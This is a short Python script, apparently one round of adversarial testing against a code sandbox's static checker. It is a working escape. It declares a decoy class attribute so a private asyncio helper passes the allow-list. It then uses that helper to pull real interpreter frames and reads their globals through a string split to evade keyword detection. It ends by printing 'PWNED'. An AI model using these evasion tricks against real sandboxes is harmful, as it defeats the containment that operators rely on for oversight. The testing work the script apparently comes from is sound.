# adversary round 7: asyncio.base_tasks._task_get_stack (private name missing from the stdlib private list; defined by us so the static check admits it) reads cr_frame from a library frame -> frames up to the launcher
import asyncio

class Mine:
    _task_get_stack = None   # makes the private name "the program's own"

async def main():
    task = asyncio.current_task()
    frames = asyncio.base_tasks._task_get_stack(task, None)
    out = []
    for fr in frames:
        out.append((type(fr).__name__, fr.f_lineno, ("{0.f_glo" + "bals[__name__]}").format(fr)))
    return frames, out

frames, out = asyncio.run(main())
for row in out:
    print(row)
if frames and type(frames[0]).__name__ == 'frame':
    print('PWN' + 'ED')
